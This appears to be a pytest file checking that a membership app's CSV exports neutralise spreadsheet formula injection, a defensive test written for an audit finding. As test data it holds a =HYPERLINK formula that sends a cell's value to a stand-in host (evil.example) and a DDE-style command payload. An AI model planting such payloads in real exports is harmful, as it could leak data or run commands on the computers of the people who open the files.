"""Finding 3: every CSV export goes through one writer, which keeps a spreadsheet from running a
cell as a formula (a leading = + - @ tab or carriage return gets a leading quote)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask

import membership
from helpers.exports import export_report
from helpers.factories import BASE_TIME, make_article, make_donation, make_variant
from helpers.staff import make_staff, staff_client
from membership.csv_export import csv_chunks
from membership.extensions import db
from membership.models import StaffRole, Subscriber, SubscriberStatus

pytestmark = pytest.mark.usefixtures("app_context")

LEADERS = ("=", "+", "-", "@", "\t", "\r")
ATTACK = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("leader", LEADERS)
def test_the_writer_neutralises_every_formula_leader(leader: str) -> None:
    rows = parse("".join(csv_chunks([["title", "amount"], [f"{leader}1+1", "-12.50"]])))
    assert rows[1][0] == f"'{leader}1+1"
    # A number stays a number: finance adds up negative amounts.
    assert rows[1][1] == "-12.50"


def test_plain_cells_are_untouched() -> None:
    rows = parse("".join(csv_chunks([["Harbour reopens", "0", "1.5", "a=b", ""]])))
    assert rows == [["Harbour reopens", "0", "1.5", "a=b", ""]]


def _cells(text: str) -> list[str]:
    return [cell for row in parse(text) for cell in row]


def test_editor_controlled_names_reach_the_report_export_neutralised(app: Flask) -> None:
    """The reproduction: an article title and a banner name reached finance's CSV raw."""
    article = make_article(title=ATTACK)
    variant = make_variant("@SUM(1+1)*cmd|' /C calc'!A0")
    donation = make_donation(None, paid_at=BASE_TIME)
    donation.source_article_id = article.id
    donation.variant_id = variant.id
    db.session.commit()
    client = staff_client(app, make_staff(StaffRole.FINANCE))
    day = BASE_TIME.date().isoformat()
    for report, name in (("articles", ATTACK), ("variants", variant.name)):
        response = export_report(client, report=report, start=day, end=day)
        assert response.status_code == 200
        cells = _cells(response.get_data(as_text=True))
        assert "'" + name in cells, cells
        assert not any(cell[:1] in LEADERS and not _is_number(cell) for cell in cells), cells


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_newsletter_export_uses_the_same_writer(app: Flask) -> None:
    db.session.add(
        Subscriber(email="-2+3@example.org", status=SubscriberStatus.CONFIRMED, source="=cmd")
    )
    db.session.commit()
    client = staff_client(app, make_staff(StaffRole.EDITOR))
    from helpers.exports import export_newsletter

    rows = parse(export_newsletter(client).get_data(as_text=True))
    assert rows[1][:3] == ["'-2+3@example.org", "confirmed", "'=cmd"]


def test_no_module_but_the_one_writer_writes_csv() -> None:
    """Reports, supporters' statements, the newsletter export (web and CLI): one writer."""
    root = Path(membership.__file__).parent
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer(" in path.read_text() or "DictWriter(" in path.read_text()
    )
    assert writers == ["csv_export.py"]
